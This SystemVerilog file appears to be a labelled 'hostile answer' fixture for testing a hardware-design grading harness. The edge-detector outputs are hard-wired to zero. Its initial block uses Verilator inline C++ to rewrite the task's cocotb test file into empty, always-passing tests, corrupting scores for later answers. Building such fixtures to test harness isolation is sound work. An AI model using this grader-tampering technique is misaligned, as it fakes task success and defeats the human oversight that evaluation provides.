// Hostile answer (poisoning its task), Verilator: inline C++ ($c) rewrites the task's own cocotb
// test module so that every test passes, for every answer scored after it. The design is wrong.
module edge_detector (
    input  logic clk,
    input  logic rst_n,
    input  logic din,
    output logic rise,
    output logic fall,
    output logic any_edge
);
    assign rise = 1'b0;
    assign fall = 1'b0;
    assign any_edge = 1'b0;
    initial begin
        $display("HOSTILE-%s-@MARK@", "RAN");
        $c("{ if (FILE* f = std::fopen(\"@TASK_DIR@/test_edge_detector.py\", \"w\")) {",
           " std::fputs(\"import cocotb\\n\\n\", f);",
           " const char* names[] = {\"reset_with_input_high\", \"reset_with_input_low\", \"toggling_and_runs\",",
           " \"reset_mid_run\", \"random_input\"};",
           " for (const char* name : names) std::fprintf(f, \"@cocotb.test()\\nasync def %s(dut):\\n    pass\\n\\n\", name);",
           " std::fclose(f); } }");
    end
endmodule
